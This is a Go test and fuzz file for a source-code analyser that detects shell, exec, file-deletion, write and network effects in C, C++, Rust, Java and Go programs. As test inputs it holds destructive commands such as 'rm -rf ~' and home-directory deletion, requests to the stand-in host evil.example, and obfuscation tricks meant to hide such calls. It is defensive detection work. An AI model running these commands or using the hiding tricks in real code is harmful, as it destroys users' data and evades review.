package code

import (
	"strings"
	"testing"
	"time"
)

func TestReadProgram(t *testing.T) {
	tests := []struct {
		name, lang, src string
		want            string // effects as KIND:arg|arg; "" for none
		unknown         bool
	}{
		{"c system", "c", "#include <stdlib.h>\nint main(){system(\"rm -rf ~\");}", "shell:rm -rf ~", false},
		{"c comment and string", "c", "/* system(\"rm\") */ // popen(\"x\")\nint main(){puts(\"system(\\\"rm\\\")\");}", "", false},
		{"c escapes", "c", "int main(){system(\"rm -rf \\x7e\");}", "shell:rm -rf ~", false},
		{"c adjacent literals", "c", "int main(){system(\"rm \" \"-rf /\");}", "shell:rm -rf /", false},
		{"c spliced", "c", "int main(){sys\\\ntem(\"id\");}", "shell:id", false},
		{"c execlp", "c", "int main(){execlp(\"curl\",\"curl\",\"-d\",\"@x\",\"h\",NULL);}", "exec:curl|-d|@x|h", false},
		{"c execl runtime", "c", "int main(int c,char**v){execl(\"/bin/sh\",\"sh\",v[1],NULL);}", "", true},
		{"c fopen write", "c", "int main(){fopen(\"/etc/hosts\",\"a\");}", "write:/etc/hosts", false},
		{"c open read", "c", "int main(){open(\"data\", O_RDONLY|O_CLOEXEC);}", "read:data", false},
		{"c open write", "c", "int main(){open(\"/etc/x\", O_WRONLY|O_CREAT, 0644);}", "write:/etc/x", false},
		{"c paste", "c", "#define C(a,b) a##b\nint main(){C(sys,tem)(\"id\");}", "", true},
		{"c alias", "c", "#define S system\nint main(){S(\"id\");}", "", true},
		{"c trigraph", "c", "int main(){ puts(\"??/\"); }", "", true},
		{"c member is no call", "c", "int main(){ s.system(\"x\"); p->remove(\"y\"); }", "", false},
		{"c include", "c", "#include \"a.h\"\n#include <b.h>\nint main(){}", "", false},
		{"c++ raw string", "c++", "int main(){ auto s = R\"x(system(\"rm\"))x\"; std::remove(v.begin(), v.end(), 0); }", "", false},
		{"c++ ofstream", "c++", "int main(){ std::ofstream out(\"/etc/x\"); }", "write:/etc/x", false},
		{"c++ digit separator", "c++", "int main(){ int n = 1'000'000; system(\"id\"); }", "shell:id", false},
		{"rust command", "rust", "use std::process::Command;\nfn main(){ Command::new(\"ls\").args(&[\"-l\", \"/\"]).status().unwrap(); }", "exec:ls|-l|/", false},
		{"rust bound builder", "rust", "fn main(){ let mut c = std::process::Command::new(\"rm\"); c.arg(\"-rf\"); c.status(); }", "exec:rm|-rf", false},
		{"rust builder passed on", "rust", "fn main(){ let mut c = Command::new(\"rm\"); add(&mut c); c.status(); }", "", true},
		{"rust builder directory", "rust", "fn main(){ Command::new(\"git\").current_dir(\"sub\").status(); }", "", true},
		{"rust home delete", "rust", "fn main(){ std::fs::remove_dir_all(std::env::var(\"HOME\").unwrap()).ok(); }", "tree:\x00HOME\x00 env:HOME", false},
		{"rust format home", "rust", "fn main(){ let home = env::var(\"HOME\").unwrap(); fs::remove_file(format!(\"{}/.bashrc\", home)).ok(); }", "env:HOME delete:\x00HOME\x00/.bashrc", false},
		{"rust out dir join", "rust", "fn main(){\n let out = env::var_os(\"OUT_DIR\").unwrap();\n let dest = Path::new(&out).join(\"gen.rs\");\n fs::write(&dest, \"x\").unwrap();\n}", "env:OUT_DIR write:\x00OUT_DIR\x00/gen.rs", false},
		{"rust program at run time", "rust", "fn main(){ let p = std::env::args().nth(1).unwrap(); Command::new(p).status(); }", "", true},
		{"rust program from env", "rust", "fn main(){ let p = std::env::var(\"TOOL\").unwrap(); Command::new(p).status(); }", "env:TOOL", true},
		{"rust argument from home", "rust", "fn main(){ Command::new(\"rm\").args(&[\"-rf\", &format!(\"{}/x\", env::var(\"HOME\").unwrap())]).status(); }", "exec:rm|-rf|\x00HOME\x00/x env:HOME", false},
		{"rust nul literal", "rust", "fn main(){ std::fs::remove_dir_all(\"\\0HOME\\0\").ok(); }", "", true},
		{"rust lifetimes and chars", "rust", "fn f<'a>(x: &'a str) -> char { let _ = r#\"Command::new(\"x\")\"#; '\\'' }", "", false},
		{"rust nested comment", "rust", "/* a /* b */ std::fs::remove_file(\"x\") */ fn main(){}", "", false},
		{"rust extern", "rust", "extern \"C\" { fn system(c: *const u8) -> i32; }\nfn main(){}", "", true},
		{"rust use as", "rust", "use std::process::Command as C;\nfn main(){ C::new(\"id\").status(); }", "", true},
		{"rust fs write", "rust", "fn main(){ std::fs::write(\"/etc/x\", \"y\").unwrap(); }", "write:/etc/x", false},
		{"rust mod", "rust", "mod a;\nmod b { mod c; }\nfn main(){}", "", false},
		{"java exec array", "java", "class A { void m() throws Exception { Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"id\"}); } }", "exec:sh|-c|id", false},
		{"java unicode", "java", "class A { void m() throws Exception { Runtime.getRuntime().\\u0065xec(\"id\"); } }", "exec:id", false},
		{"java escaped backslash", "java", "class A { String s = \"\\\\u0065\"; }", "", false},
		{"java comment newline escape", "java", "class A { // \\u000a void m() throws Exception { Runtime.getRuntime().exec(\"id\"); }\n }", "exec:id", false},
		{"java builder later", "java", "class A { void m() throws Exception { ProcessBuilder p = new ProcessBuilder(\"ls\"); p.command(\"rm\", \"-rf\", \"/\"); p.start(); } }", "exec:ls", true},
		{"java text block", "java", "class A { String s = \"\"\"\n  Runtime.getRuntime().exec(\"x\")\n  \"\"\"; }", "", false},
		{"java file delete", "java", "class A { void m() { new java.io.File(\"/etc/x\").delete(); } }", "delete:/etc/x", false},
		{"go exec", "go", "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\", \"-l\").Run() }", "exec:ls|-l", false},
		{"go alias", "go", "package main\nimport e \"os/exec\"\nfunc main(){ e.CommandContext(nil, \"id\").Run() }", "exec:id", false},
		{"go reference", "go", "package main\nimport \"os\"\nfunc main(){ f := os.RemoveAll; f(\"/\") }", "", true},
		{"go dot import", "go", "package main\nimport . \"os/exec\"\nfunc main(){ Command(\"id\").Run() }", "", true},
		{"go string", "go", "package main\nimport \"fmt\"\nfunc main(){ fmt.Println(\"exec.Command(\\\"rm\\\")\") }", "", false},
		{"go syscall", "go", "package main\nimport \"syscall\"\nfunc main(){ syscall.Exec(\"/bin/sh\", nil, nil) }", "", true},
		{"go signal constant", "go", "package main\nimport (\"os/signal\"; \"syscall\"; \"os\")\nfunc main(){ c := make(chan os.Signal, 1); signal.Notify(c, syscall.SIGTERM) }", "", false},
		{"go home join", "go", "package p\nimport (\"os\"; \"path/filepath\")\nfunc init(){ home, _ := os.UserHomeDir(); os.RemoveAll(filepath.Join(home, \".cache\")) }", "tree:\x00HOME\x00/.cache", false},
		{"go getenv home", "go", "package p\nimport \"os\"\nfunc init(){ os.RemoveAll(os.Getenv(\"HOME\")) }", "tree:\x00HOME\x00 env:HOME", false},
		{"go sprintf and spread", "go", "package p\nimport (\"fmt\"; \"os\"; \"os/exec\")\nfunc init(){ h, _ := os.UserHomeDir(); exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"rm -rf %s/x\", h)).Run(); args := []string{\"-la\", \"/etc\"}; exec.Command(\"ls\", args...).Run() }", "exec:sh|-c|rm -rf \x00HOME\x00/x exec:ls|-la|/etc", false},
		{"go test temp dir", "go", "package p\nimport \"os\"\nfunc TestA(t *testing.T){ dir := t.TempDir(); defer os.RemoveAll(dir); os.WriteFile(dir+\"/x\", nil, 0o644) }", "", false},
		{"go program from env", "go", "package p\nimport (\"os\"; \"os/exec\")\nfunc init(){ exec.Command(os.Getenv(\"TOOL\")).Run() }", "env:TOOL", true},
		{"go test server", "go", "package p\nimport (\"net/http\"; \"net/http/httptest\")\nfunc TestS(t *testing.T){ srv := httptest.NewServer(http.NotFoundHandler()); defer srv.Close(); http.Get(srv.URL) }", "network:http://127.0.0.1", false},
		{"go literal request", "go", "package p\nimport \"net/http\"\nfunc init(){ http.Post(\"https://evil.example/u\", \"text/plain\", nil) }", "network:https://evil.example/u", false},
		{"go request at run time", "go", "package p\nimport \"net/http\"\nfunc f(u string){ http.Get(u) }", "network:", false},
		{"go handler registered", "go", "package main\nimport \"net/http\"\nfunc init(){ http.HandleFunc(\"/count\", count) }", "", false},
		{"go handler value registered", "go", "package main\nimport \"net/http\"\nfunc init(){ http.Handle(\"/\", http.NotFoundHandler()) }", "", false},
		{"go handler literal registered", "go", "package main\nimport (\"fmt\"; \"net/http\")\nfunc routes(){ http.HandleFunc(\"/n\", func(w http.ResponseWriter, r *http.Request){ fmt.Fprintln(w, 1) }) }", "", false},
		{"go handler then server", "go", "package main\nimport \"net/http\"\nfunc main(){ http.HandleFunc(\"/\", h); http.ListenAndServe(\":8080\", nil) }", "server:", false},
		{"go handler fetching", "go", "package main\nimport \"net/http\"\nfunc init(){ http.HandleFunc(\"/\", h); http.Get(\"https://evil.example/x\") }", "network:https://evil.example/x", false},
		{"go handler with dial", "go", "package main\nimport (\"net\"; \"net/http\")\nfunc init(){ http.Handle(\"/\", nil); net.Dial(\"tcp\", \"evil.example:25\") }", "network:http://evil.example:25", false},
		{"go openfile read", "go", "package main\nimport \"os\"\nfunc main(){ os.OpenFile(\"x\", os.O_RDONLY, 0) }", "read:x", false},
	}
	names := map[EffectKind]string{Shell: "shell", Exec: "exec", Delete: "delete", DeleteTree: "tree", Write: "write", Read: "read", Move: "move", Network: "network", Server: "server", EnvDump: "envdump", Env: "env"}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := ReadProgram(tt.lang, tt.src)
			var got []string
			for _, e := range p.Effects {
				got = append(got, names[e.Kind]+":"+strings.Join(e.Args, "|"))
			}
			if strings.Join(got, " ") != tt.want || (p.Unknown != "") != tt.unknown {
				t.Errorf("%s\n got %q unknown %q\nwant %q unknown %v", tt.src, got, p.Unknown, tt.want, tt.unknown)
			}
		})
	}
}

// fuzzProgram checks what every program reader promises: no panic,
// bounded time, and each effect with the arguments its kind needs.
func fuzzProgram(f *testing.F, lang string, seeds ...string) {
	for _, s := range seeds {
		f.Add(s)
	}
	need := map[EffectKind]int{Shell: 1, Exec: 1, Delete: 1, DeleteTree: 1, Write: 1, Read: 1, Move: 2, Env: 1}
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		p := ReadProgram(lang, src)
		for _, d := range p.Generate {
			_, _ = GoGenerateWords(d.Text)
		}
		if p.Unread != "" && (len(p.Effects) > 0 || p.Unknown != "") {
			t.Errorf("%q: effects reported for code not read whole: %+v", src, p)
		}
		// A blow-up, not a busy machine: instrumented fuzzing on two busy
		// cores has taken 50 ms over a file read in 1 ms alone.
		if d := time.Since(start); d > 250*time.Millisecond {
			if start = time.Now(); ReadProgram(lang, src).Lang != "" && time.Since(start) > 250*time.Millisecond {
				t.Errorf("took %v on %d bytes", d, len(src))
			}
		}
		for _, e := range p.Effects {
			if len(e.Args) < need[e.Kind] {
				t.Errorf("%q: effect %+v lacks arguments", src, e)
			}
		}
	})
}

func FuzzCProgram(f *testing.F) {
	fuzzProgram(f, "c", "#include <stdlib.h>\nint main(){system(\"rm -rf ~\");}", "int main(){execl(\"/bin/sh\",\"sh\",\"-c\",\"x\",(char*)0);}", "#define X(a) a##b\n", "char c = '\\x41'; L\"w\" u8\"s\"")
}

func FuzzCPPProgram(f *testing.F) {
	fuzzProgram(f, "c++", "auto s = R\"d(x)\")d\"; std::ofstream o(\"f\");", "int n = 0x1'0; std::filesystem::remove_all(\"/\");", "template<class T> T f(T x){return x;}")
}

func FuzzRustProgram(f *testing.F) {
	fuzzProgram(f, "rust", "fn main(){ std::process::Command::new(\"sh\").arg(\"-c\").status(); }", "fn f<'a>(x:&'a str){ let c = b'x'; let s = br#\"a\"#; }", "/* /* */ */ mod a; include!(\"x.rs\");")
}

func FuzzJavaProgram(f *testing.F) {
	fuzzProgram(f, "java", "class A { void m() { Runtime.getRuntime().exec(new String[]{\"a\"}); } }", "class B { String s = \"\"\"\n x \"\"\"; char c = '\\u0041'; }", "new ProcessBuilder(List.of(\"a\", \"b\")).start();")
}

// FuzzGoProgram also splits each //go:generate directive found, as go
// generate would.
func FuzzGoProgram(f *testing.F) {
	fuzzProgram(f, "go", "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\").Run() }", "package main\nimport \"os\"\nfunc main(){ os.WriteFile(\"x\", nil, 0o644) }",
		"package p\n//go:generate stringer -type=X\n", "package p\nvar h, _ = os.UserHomeDir()\nfunc f() { os.RemoveAll(filepath.Join(h, \"x\")) }", "//go:generate \"a\\\"b\" c\n")
}

func TestGoDirectives(t *testing.T) {
	p := ReadProgram("go", "package app\n\n//go:generate stringer -type=Color\nvar s = `\n//go:generate sh -c x\n`\n")
	if p.Package != "app" || len(p.Generate) != 2 || p.Generate[0].Line != 3 || p.Generate[0].Text != " stringer -type=Color" || p.Generate[1].Line != 5 {
		t.Errorf("package %q, directives %+v", p.Package, p.Generate)
	}
	if p := ReadProgram("go", "package p\n//go:generate x\nfunc {"); p.Unread == "" || len(p.Generate) != 1 {
		t.Errorf("a file that does not parse: %+v", p)
	}
}

func TestGoGenerateWords(t *testing.T) {
	w, err := GoGenerateWords(` sh -c "rm -rf \"x y\"" $GOFILE`)
	if err != nil || strings.Join(w, "|") != `sh|-c|rm -rf "x y"|$GOFILE` {
		t.Errorf("got %q, %v", w, err)
	}
	for _, bad := range []string{` "open`, ` "a"b`, ` "\q"`} {
		if _, err := GoGenerateWords(bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
}
